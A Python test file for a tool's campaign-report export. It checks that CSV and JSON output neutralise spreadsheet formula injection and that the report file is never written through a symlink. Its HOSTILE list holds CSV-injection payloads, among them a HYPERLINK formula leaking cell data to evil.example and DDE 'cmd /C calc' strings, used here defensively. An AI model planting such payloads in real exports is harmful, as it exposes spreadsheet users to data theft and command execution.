"""`storydesk export`: the campaign report, one row per testimony, safe in a spreadsheet."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

from sqlalchemy import update

from db import models
from review.report import COLUMNS
from tests.review.conftest import as_user, opened, queue_json
from tests.sandboxed import Setup

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def poison(setup: Setup) -> list[int]:
    """Posts whose author and text, and a form whose city, start like formulas."""
    ids = [i["id"] for i in queue_json(setup, "--status", "all", "--limit", str(len(HOSTILE)))]
    with opened(setup) as session, session.begin():
        for tid, value in zip(ids, HOSTILE, strict=True):
            session.execute(
                update(models.Post)
                .where(models.Post.testimony_id == tid)
                .values(author_handle=value, author_name=value, text=value)
            )
        session.execute(update(models.ConsentRecord).values(city=HOSTILE[0], country=HOSTILE[3]))
    return ids


def strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in strings(v)]
    return []


def test_csv_report_never_has_a_cell_that_starts_a_formula(
    harvested: Setup, tmp_path: Path
) -> None:
    ids = poison(harvested)
    out = tmp_path / "report.csv"
    outcome = harvested.cli("export", "--format", "csv", "--out", str(out))
    assert (outcome.exit_code, outcome.stdout, outcome.stderr) == (0, "", f"wrote {out}\n")
    assert not out.with_name("report.csv.part").exists()
    with out.open(newline="", encoding="utf-8") as handle:
        header, *rows = list(csv.reader(handle))
    assert header == COLUMNS
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    for tid, value in zip(ids, HOSTILE, strict=True):
        assert by_id[str(tid)]["author"] == "'" + value  # kept, but as text
    assert {r["city"] for r in by_id.values() if r["consent_id"]} == {"'" + HOSTILE[0]}
    assert len(rows) == len(queue_json(harvested, "--status", "all", "--limit", "0"))


def test_json_report_never_has_a_string_that_starts_a_formula(
    harvested: Setup, tmp_path: Path
) -> None:
    poison(harvested)
    out = tmp_path / "report.json"
    assert harvested.cli("export", "--format", "json", "--out", str(out)).exit_code == 0
    rows = json.loads(out.read_text(encoding="utf-8"))
    assert rows and set(rows[0]) == set(COLUMNS)
    assert not [s for s in strings(rows) if s.startswith(FORMULA_START)]
    stdout = harvested.cli("export", "--format", "json")
    assert json.loads(stdout.stdout) == rows  # without --out: the same document on stdout


def test_report_rows_carry_platforms_place_states_and_publications(harvested: Setup) -> None:
    item = next(i for i in queue_json(harvested, "--consent", "matched") if len(i["platforms"]) > 1)
    assert as_user(harvested, "approve", str(item["id"]), "--targets", "x,gallery").exit_code == 0
    outcome = harvested.cli("export")
    assert outcome.exit_code == 0
    rows = {r["id"]: r for r in csv.DictReader(outcome.stdout.splitlines())}
    row = rows[str(item["id"])]
    assert row["platforms"] == " ".join(item["platforms"])
    assert row["urls"] == " ".join(c["url"] for c in item["copies"])
    assert (row["city"], row["country"]) == (item["city"], item["country"])
    assert (row["consent"], row["consent_id"], row["review"]) == (
        "matched",
        item["consent_id"],
        "approved",
    )
    assert set(row["publications"].split()) <= {"x:queued", "gallery:queued"}
    assert row["publications"]


def test_the_report_file_is_owner_only_and_never_written_through_a_symlink(
    harvested: Setup, tmp_path: Path
) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    out = tmp_path / "report.csv"
    out.symlink_to(victim)
    (tmp_path / "report.csv.part").symlink_to(victim)  # where the old code wrote first
    outcome = harvested.cli("export", "--out", str(out))
    assert outcome.exit_code == 0, outcome.stderr
    assert victim.read_text() == "keep me"
    assert not out.is_symlink()
    assert out.stat().st_mode & 0o777 == 0o600
    assert out.read_text().splitlines()[0].split(",") == COLUMNS
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".report.csv.")]
